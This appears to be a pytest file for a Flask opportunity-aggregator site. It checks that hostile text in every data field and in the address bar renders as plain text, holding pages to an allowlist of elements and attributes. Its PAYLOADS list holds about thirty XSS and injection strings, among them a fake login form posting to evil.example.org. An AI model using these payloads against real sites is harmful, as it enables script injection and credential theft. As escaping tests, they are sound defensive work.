"""Text of strangers and text of the address bar, on every page: words, never markup.

The one thing to know: the pages are held against the short list of elements and attributes that our templates use, so
that a payload nobody thought of fails too.
"""

import re
from urllib.parse import quote, urlsplit

import sqlalchemy as sa
from bs4 import BeautifulSoup
from flask import Flask
from flask.testing import FlaskClient

from aggregator.intake.tables import sources
from aggregator.store.opportunity import Opportunity
from aggregator.store.session import Store
from aggregator.store.tables import stamp
from connectors.base.contract import Deadline, Title
from tests.web import seed

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "{{ 7 * 7 }}{% for x in () %}",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action='https://evil.example.org'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.org'>",
    "<base href='https://evil.example.org/'>",
    "<object data='x'></object><embed src='x'>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<x onclick=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "\u202egnp.exe\u202c<b id=main>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
ELEMENTS = re.compile(
    "a|article|aside|b|body|br|button|circle|code|dd|del|details|div|dl|dt|em|fieldset|footer|form|g|h[1-5]|head|header"
    "|html|input|ins|label|legend|li|link|main|meta|nav|ol|option|p|section|select|span|strong|summary|svg|table|tbody"
    "|td|th|thead|time|title|tr|ul"
)
ATTRIBUTES = re.compile(
    "action|aria-(current|hidden|label|labelledby)|autocomplete|charset|checked|class|content|cx|cy|datetime|fill"
    "|focusable|for|form|height|href|hreflang|id|lang|maxlength|method|name|placeholder|property|r|rel|role|selected"
    "|stroke|stroke-width|tabindex|type|value|viewbox|width"
)


def hold_to_our_own_markup(html: str) -> None:
    page = BeautifulSoup(html, "html.parser")
    for tag in page.find_all(True):
        assert ELEMENTS.fullmatch(tag.name), str(tag)[:200]
        assert all(map(ATTRIBUTES.fullmatch, tag.attrs)), str(tag)[:200]
        if "href" in tag.attrs:
            assert urlsplit(str(tag["href"])).scheme in {"", "http", "https", "mailto"}, str(tag)[:200]
        if tag.name == "form":
            assert tag["action"] == "/opportunities"
        if tag.name == "meta":
            assert "http-equiv" not in tag.attrs
    assert len(page.find_all("svg")) == 1
    assert len(page.find_all(id="main")) == 1


def hostile(payload: str, *, number: int) -> list[Opportunity]:
    first = seed.opportunity(
        source=f"evil-{number}",
        source_id=f"{number} {payload}",
        titles={"it": Title(text=payload), "xx": Title(text=payload)},
        url=f"https://evil.example.org/?q={payload}",
        summary=payload,
        body=f"<p>{payload}</p>{payload}",
        deadlines=[
            Deadline(on=seed.day(5), label=payload),
            Deadline(on=seed.day(6), kind="stage", label=payload),
        ],
        countries=["FR"],
        regions=[f"nuts:x{payload}"],
        sectors=[{"id": f"s{number}", "because": payload}],
        codes=[f"cpv:{payload}", f"made-up:x{payload}"],
        keywords=[payload],
        budget={"raw": payload},
        grant={"raw": payload},
        organisation={"name": payload, "url": f"https://evil.example.org/{payload}"},
        programme={"code": payload, "name": payload},
        eligibility={"text": payload, "verdict": "restricted", "codes": [payload]},
        reserved=[{"type": "res-ws", "lots": [payload]}],
        documents=[{"url": f"https://evil.example.org/{payload}", "title": payload}],
        links=[{"url": f"https://evil.example.org/{payload}", "lang": "it"}],
        contact={"url": f"https://evil.example.org/{payload}", "text": payload},
        rights={"show": "full", "attribution": payload, "basis": "written"},
    )
    renamed = {"it": Title(text=f"changed {payload}"), "xx": Title(text=payload)}
    return [first, first.model_copy(update={"titles": renamed})]


def test_a_hostile_text_in_every_field_is_shown_as_text(store: Store, app: Flask) -> None:
    with store.write() as connection:
        for payload in PAYLOADS:
            row = {"name": f"evil-{PAYLOADS.index(payload)}", "connector": "feed", "title": payload, "params": "{}"}
            connection.execute(sa.insert(sources).values(**row, enabled=True, added_at=stamp(seed.NOW)))
    pages = ["/", "/opportunities?size=50", "/sources"]
    for number, payload in enumerate(PAYLOADS):
        before, after = hostile(payload, number=number)
        (put,) = seed.put(store, before)
        seed.put(store, after)
        pages.append(f"/opportunities/{put.id}")
    client = app.test_client()
    for path in pages:
        answer = client.get(path)
        assert answer.status_code == 200
        hold_to_our_own_markup(answer.text)
    assert client.get("/opportunities?size=50").text.count('class="row ') == len(PAYLOADS)
    assert "changed &lt;script&gt;alert(1)&lt;/script&gt;" in client.get(pages[3]).text


def test_a_hostile_address_is_shown_as_text(client: FlaskClient) -> None:
    for payload in map(quote, PAYLOADS):
        for path in (
            f"/opportunities?q={payload}",
            f"/opportunities?kind={payload}&country={payload}&deadline={payload}",
            f"/opportunities?lang={payload}",
            f"/{payload}",
            f"/about?{payload}={payload}",
        ):
            hold_to_our_own_markup(client.get(path, follow_redirects=True).text)
